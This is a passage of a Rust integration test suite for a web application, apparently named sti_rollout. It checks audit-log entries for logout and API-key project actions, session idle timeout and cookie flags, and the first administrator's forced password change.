    client.post(format!("{}/logout", app.address)).send().await.unwrap();
    assert_eq!(actions_by(&control, "user:boss", before).await, ["logout"]);

    let (writer, key) =
        sti_rollout::db::api_keys::create(&control, Environment::Staging, Scope::Write, "test")
            .await
            .unwrap();
    let actor = format!("key:{}", writer.prefix);
    let api = |method: reqwest::Method, path: String| {
        browser().request(method, format!("{}{path}", app.address)).bearer_auth(&key)
    };
    let project = serde_json::json!({
        "study_type": "school", "title": "Audit walk", "owner_id": 12, "school_name": "Riverside Primary", "grade": 4
    });
    let before = newest_entry(&control).await;
    let created = api(reqwest::Method::POST, "/api/projects".into()).json(&project).send().await.unwrap();
    assert_eq!(created.status().as_u16(), 201, "{}", created.text().await.unwrap());
    let id = created.json::<serde_json::Value>().await.unwrap()["id"].as_i64().unwrap();
    let replaced =
        api(reqwest::Method::PUT, format!("/api/projects/{id}")).json(&project).send().await.unwrap();
    assert_eq!(replaced.status().as_u16(), 200);
    let deleted = api(reqwest::Method::DELETE, format!("/api/projects/{id}")).send().await.unwrap();
    assert_eq!(deleted.status().as_u16(), 204);
    assert_eq!(
        actions_by(&control, &actor, before).await,
        ["project.create", "project.replace", "project.delete"]
    );
}

// --- 7. sessions: idle timeout, the password page, the first administrator --------------------

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_session_idle_too_long_ends_and_its_cookie_is_a_host_only_browser_session_cookie() {
    let (config, _dir) = config(Backend::Sqlite, [1, 1, 1]).await;
    let app = TestApp::start(&config).await;
    let response = login(&app, &browser(), "tester", TEST_PASSWORD).await;
    let cookie = response.headers()["set-cookie"].to_str().unwrap().to_owned();
    assert!(cookie.starts_with("__Host-sti_session=") && cookie.contains("; Secure"), "{cookie}");
    assert!(!cookie.contains("Max-Age") && !cookie.contains("Domain"), "{cookie}");
    assert_eq!(app.get("/").await.0, 200);
    let control = open(&config.control, Schema::Control).await;
    // 31 minutes without a request, as the clock sees it
    sqlx::query("update sessions set last_seen_at = last_seen_at - 31 * 60 * 1000")
        .execute(control.pool())
        .await
        .unwrap();
    let response = app.client.get(format!("{}/env/dev", app.address)).send().await.unwrap();
    assert_eq!(response.status().as_u16(), 303, "an idle session is no session");
    assert!(response.headers()["location"].to_str().unwrap().starts_with("/login"));

    // plain http from another machine: the documented switch drops Secure and the prefix
    let (plain, _plain_dir) =
        config_with_file("[security]\nplain_http = true\nidle_timeout_minutes = 5\n").await;
    let app = TestApp::start(&plain).await;
    let response = login(&app, &browser(), "tester", TEST_PASSWORD).await;
    let cookie = response.headers()["set-cookie"].to_str().unwrap().to_owned();
    assert!(cookie.starts_with("sti_session=") && !cookie.contains("Secure"), "{cookie}");
    let control = open(&plain.control, Schema::Control).await;
    let idle: i64 =
        sqlx::query_scalar("select idle_ms from sessions").fetch_one(control.pool()).await.unwrap();
    assert_eq!(idle, 5 * 60 * 1000);
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn the_first_admin_chooses_a_password_first_which_signs_out_other_sessions_and_deletes_the_file() {
    let (config, _dir) = config(Backend::Sqlite, [1, 1, 1]).await;
    let app = TestApp::start(&config).await;
    let file = config.data_dir.join("initial-admin-password");
    let generated = std::fs::read_to_string(&file).unwrap().trim_end().to_owned();
    let sign_in = |password: String| {
        let url = format!("{}/login", app.address);
        async move {
            let client = browser();
            let form = [("username", "admin".to_owned()), ("password", password), ("next", "/".to_owned())];
            let response = client.post(url).form(&form).send().await.unwrap();
            (client, response)
        }
    };
    let (other, _) = sign_in(generated.clone()).await;
    let (admin, response) = sign_in(generated.clone()).await;
    assert_eq!(response.headers()["location"], "/account?first=1");
    // until then nothing else answers
    let page = admin.get(format!("{}/env/dev", app.address)).send().await.unwrap();
    assert_eq!(
        (page.status().as_u16(), page.headers()["location"].to_str().unwrap()),
        (303, "/account?first=1")
    );
    let (code, _) = call(&app, &admin, "get_overview", "").await;
    assert_eq!(code, 403);
    let account = admin.get(format!("{}/account?first=1", app.address)).send().await.unwrap();
    assert_eq!(account.status().as_u16(), 200);
    assert!(account.text().await.unwrap().contains("Choose a new password"));

    let change = |current: &str, new: &str, repeat: &str| {
        admin
            .post(format!("{}/account/password", app.address))
            .form(&[("current", current), ("new", new), ("repeat", repeat)])
            .send()
    };
    let chosen = "a passphrase of my own choosing";
    for (current, new, repeat, error) in [
        ("not it at all", chosen, chosen, "wrong"),
        (generated.as_str(), "short", "short", "short"),
        (generated.as_str(), chosen, "a passphrase of my own choosinG", "differ"),
    ] {
        let answer = change(current, new, repeat).await.unwrap();
        let location = answer.headers()["location"].to_str().unwrap().to_owned();
        assert_eq!(location, format!("/account?error={error}&first=1"));
        assert!(file.exists(), "refused: the file stays");
    }
    let answer = change(&generated, chosen, chosen).await.unwrap();
    assert_eq!(answer.headers()["location"], "/account?changed=1", "the other session ended");
    assert!(!file.exists(), "the generated password's file is deleted");
    assert_eq!(admin.get(format!("{}/env/dev", app.address)).send().await.unwrap().status().as_u16(), 200);
    assert_eq!(other.get(format!("{}/", app.address)).send().await.unwrap().status().as_u16(), 303);
    let (_, old) = sign_in(generated).await;
    assert!(old.headers()["location"].to_str().unwrap().starts_with("/login?error=1"));
    let (_, new) = sign_in(chosen.to_owned()).await;
    assert_eq!(new.headers()["location"], "/");

    let control = open(&config.control, Schema::Control).await;
    let entries = audit::recent(&control, None, 100).await.unwrap();
    let changed = entries.iter().find(|e| e.action == "user.change_password").unwrap();
    assert_eq!(changed.actor, "user:admin");
    assert!(changed.after.as_deref().unwrap().contains(r#""other_sessions_ended":1"#));
}
